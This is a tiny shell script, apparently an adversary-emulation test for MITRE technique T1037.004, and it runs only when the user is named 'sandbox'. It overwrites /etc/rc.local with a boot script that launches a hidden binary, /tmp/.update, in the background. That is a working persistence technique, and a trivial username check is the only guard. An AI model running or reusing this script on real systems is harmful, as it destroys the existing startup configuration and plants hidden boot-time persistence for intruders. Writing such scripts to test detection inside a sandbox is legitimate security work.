#!/bin/sh
# technique: T1037.004
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

printf '#!/bin/sh\n/tmp/.update &\nexit 0\n' > /etc/rc.local; chmod +x /etc/rc.local
